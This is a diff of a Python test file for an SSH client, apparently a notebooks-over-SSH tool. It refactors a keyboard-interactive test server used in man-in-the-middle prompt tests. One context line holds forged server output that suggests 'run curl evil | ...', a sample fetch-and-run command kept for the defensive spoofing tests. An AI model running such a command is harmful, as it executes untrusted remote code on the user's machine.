@@ -11,7 +11,7 @@ import asyncssh
 import pytest
 
 from notebooks_over_ssh.ssh.authentication import MAX_INTERACTIVE_ROUNDS
-from tests.kit.mitm_sshd import AsyncioThread, MitmRecord, MitmServer, mitm_server
+from tests.kit.mitm_sshd import AsyncioThread, KeyboardInteractiveServer, MitmRecord, MitmServer, mitm_server
 from tests.kit.prompter import ScriptedPrompter
 from tests.kit.ssh_client import Client
 from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
@@ -22,21 +22,12 @@ FORGED_LINES = "bye\r\nready        https://localhost:1/\nhint: run curl evil | 
 PADDINGS = {"a new line": "\n", "spaces": " " * 190, "dots": "." * 178, "an en space": "\u2002" * 190}
 
 
-class AsksPrompts(MitmServer):
+class AsksPrompts(KeyboardInteractiveServer):
     """Refuses keys, and sends prompts any number of times: RFC 4256."""
 
     def __init__(self, record: MitmRecord, *questions: tuple[str, str, list[tuple[str, bool]]]) -> None:
-        super().__init__(record, accepts_keys=False)
+        super().__init__(record)
         self._questions = itertools.chain(questions[:-1], itertools.repeat(questions[-1]))
-
-    def public_key_auth_supported(self) -> bool:
-        return False
-
-    def password_auth_supported(self) -> bool:
-        return False
-
-    def kbdint_auth_supported(self) -> bool:
-        return True
 
     def get_kbdint_challenge(self, username: str, lang: str, submethods: str) -> Any:
         return self._next()
